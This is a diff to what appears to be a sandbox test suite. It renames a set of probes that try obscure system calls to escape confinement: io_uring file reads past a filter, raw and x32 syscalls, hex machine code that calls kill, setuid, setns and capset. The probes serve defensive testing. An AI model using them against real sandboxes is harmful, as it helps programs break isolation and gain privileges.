@@ -1,4 +1,4 @@
-"""Attacks by the kernel's less known calls, each of which has let programs out of some sandbox."""
+"""Attacks by less known system calls, each of which has let programs escape from some sandbox."""
 
 import platform
 
@@ -14,7 +14,7 @@ _MACHINE_CODE = """
 """
 
 ATTACKS = {
-    "use the kernel's back doors": Attack(
+    "use dangerous system calls": Attack(
         """
         calls = {  # harmless arguments: what counts is whether the call is answered at all
             "memfd_create": (279 if arm else 319, b"x", 0),
@@ -46,7 +46,7 @@ ATTACKS = {
                 print("got it", name)
         """
     ),
-    "loosen what binds it": Attack(
+    "raise its own limits": Attack(
         """
         import resource
         for what in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
@@ -58,7 +58,7 @@ ATTACKS = {
         if libc.prctl(36, 1, 0, 0, 0) == 0: print("got it: adopts orphans")
         """
     ),
-    "read a file by a ring of orders": Attack(
+    "read a file by io_uring": Attack(
         """
         import mmap
         def ring():  # io_uring: the kernel's own thread opens the file, past a filter of system calls
@@ -81,15 +81,15 @@ ATTACKS = {
         attempt(ring)
         """
     ),
-    "go past the C library": Attack(
+    "call the kernel without the C library": Attack(
         _MACHINE_CODE
         + """
-        attempt(call, 0x40000000 | 62, 0x40000000 | 129, world["victim"], 9)  # the same table by its other number
+        attempt(call, 0x40000000 | 62, 0x40000000 | 129, world["victim"], 9)  # with the x32 bit: the same calls
         if not arm: run("b83e0000000f05c3", world["victim"], 9)  # 62 is kill
         attempt(call, 62, 129, world["victim"], 9)
         """
     ),
-    "speak another instruction set": Attack(
+    "use another instruction set": Attack(
         _MACHINE_CODE
         + """
         if not arm: run("5389fb89f1b825000000cd805bc3", world["victim"], 9)  # for 32-bit programs 37 is kill
@@ -100,7 +100,7 @@ ATTACKS = {
         """
         no_time = struct.pack("=qq", 0, -1)
         name = os.uname().nodename.encode()
-        calls = {  # with what is there already, or with nothing that could be done
+        calls = {  # arguments that change nothing: the present values, or things that do not exist
             "clock_settime": (227, 112, 0, no_time),
             "settimeofday": (164, 170, 0, 0),
             "sethostname": (170, 161, name, len(name)),
@@ -123,13 +123,13 @@ ATTACKS = {
             attempt(lambda: print("got it", os.open(path, os.O_WRONLY)))
         """
     ),
-    "become somebody": Attack(
+    "become another user": Attack(
         """
         for become in (os.setuid, os.setgid, os.seteuid): attempt(lambda: print("got it", become(0)))
         attempt(lambda: print("got it", os.setgroups([0])))
         attempt(lambda: print("got it", os.setresuid(-1, 0, -1)))
         attempt(lambda: print("got it", call(308, 268, os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)))  # setns
-        attempt(lambda: print("got it", call(272, 97, 0x10000000)))  # unshare: a user of its own making
+        attempt(lambda: print("got it", call(272, 97, 0x10000000)))  # unshare: a new user namespace
         attempt(lambda: print("got it", call(126, 91, struct.pack("=Ii", 0x20080522, 0), b"\\0" * 24)))  # capset
         """
     ),
